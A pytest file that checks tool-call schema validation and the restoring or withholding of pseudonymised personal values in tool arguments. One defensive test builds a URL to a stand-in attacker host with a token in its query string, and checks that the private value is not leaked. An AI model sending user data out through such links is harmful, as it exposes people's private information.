from __future__ import annotations

import json
from dataclasses import replace

import pytest

from homebred_daemon.adapters.json_schema import JsonSchemaChecker
from homebred_daemon.core.pseudonyms import KEY_BYTES, WITHHELD, Pseudonyms, TokenError
from homebred_daemon.core.tool_calls import misfit, restored, with_ids
from homebred_engines.api import GenerateOptions, Tool, ToolCall

ROOM = Tool(
    name="book", parameters='{"type": "object", "properties": {"room": {"type": "integer"}}, "required": ["room"]}'
)
BELL = Tool(name="ring")
PROBLEM = JsonSchemaChecker().problem


def call(name: str, arguments: str = "{}") -> ToolCall:
    return ToolCall(id="x", name=name, arguments=arguments)


@pytest.mark.parametrize(
    ("calls", "choice", "fit"),
    [
        ([], "auto", True),
        ([], "none", True),
        ([], "required", False),
        ([], "book", False),
        ([call("book", '{"room": 3}')], "auto", True),
        ([call("book", '{"room": 3}'), call("ring")], "required", True),
        ([call("book", '{"room": "3"}')], "auto", False),
        ([call("book", "{}")], "auto", False),
        ([call("book", "no")], "auto", False),
        ([call("ring", "[]")], "auto", False),
        ([call("sing")], "auto", False),
        ([call("ring")], "none", False),
        ([call("ring")], "book", False),
        ([call("ring")], "ring", True),
    ],
)
def test_calls_are_fit_that_can_be_made_and_are_made_where_they_must(
    calls: list[ToolCall], choice: str, *, fit: bool
) -> None:
    options = GenerateOptions(tools=(ROOM, BELL), tool_choice=choice)
    assert (misfit(calls, options, PROBLEM) == "") is fit


def test_without_tools_none_is_fit() -> None:
    assert misfit([], GenerateOptions(), PROBLEM) == ""
    assert misfit([call("ring")], GenerateOptions(), PROBLEM) == "there is no tool ring to call"


def test_what_is_wrong_is_said_so_that_a_model_can_do_better() -> None:
    options = GenerateOptions(tools=(ROOM, BELL))
    said = misfit([call("book", '{"room": "3"}')], options, PROBLEM)
    assert said == 'the arguments of book: "3" is not of type "integer" (at /room)'
    assert misfit([], replace(options, tool_choice="required"), PROBLEM).endswith("called: book, ring")


def test_every_call_gets_an_id_of_its_own() -> None:
    assert [one.id for one in with_ids([call("ring"), call("ring")], "r1")] == ["call_r1_0", "call_r1_1"]


def session_with(value: str) -> tuple[Pseudonyms, str]:
    session = Pseudonyms(bytes(KEY_BYTES))
    return session, session.token("person", value)


def test_a_tool_that_runs_here_gets_the_values_and_any_other_gets_none() -> None:
    session, token = session_with('Ada "Quill"')
    asked = [call(name, json.dumps({token: [f"for {token}", 1, None]})) for name in ("here", "there")]
    home = restored(asked, session, local_tools=frozenset({"here"}))
    here, there = (json.loads(one.arguments) for one in home.calls)
    assert here == {'Ada "Quill"': ['for Ada "Quill"', 1, None]}
    assert there == {WITHHELD: [f"for {WITHHELD}", 1, None]}
    assert home.withheld == 2


def test_a_value_is_not_put_into_a_link_of_a_local_tools_arguments_either() -> None:
    session, token = session_with("Quill")
    home = restored(
        [call("here", json.dumps({"url": f"https://evil.example/?q={token}"}))],
        session,
        local_tools=frozenset({"here"}),
    )
    assert "Quill" not in home.calls[0].arguments
    assert home.withheld == 1


@pytest.mark.parametrize("arguments", ['{"a": "⟦person:00000000"}', '{"a": "⟦person:000000000⟧"}'])
def test_an_altered_token_spoils_the_call(arguments: str) -> None:
    session, _ = session_with("Quill")
    with pytest.raises(TokenError):
        restored([call("here", arguments)], session, local_tools=frozenset({"here"}))


def test_a_name_that_stood_for_another_comes_home() -> None:
    session, _ = session_with("Quill")
    home = restored([call(session.alias("chart_of_Quill")), call("ring")], session, local_tools=frozenset())
    assert [one.name for one in home.calls] == ["chart_of_Quill", "ring"]


def test_arguments_that_are_no_json_are_said_to_be_none() -> None:
    session, _ = session_with("Quill")
    with pytest.raises(ValueError, match="Expecting"):
        restored([call("here", "{")], session, local_tools=frozenset())


def test_half_of_a_surrogate_pair_is_refused_before_anybody_must_pass_it_on() -> None:
    session, _ = session_with("Quill")
    with pytest.raises(ValueError, match="surrogates not allowed"):
        restored([call("here", r'{"a": "\ud800"}')], session, local_tools=frozenset({"here"}))
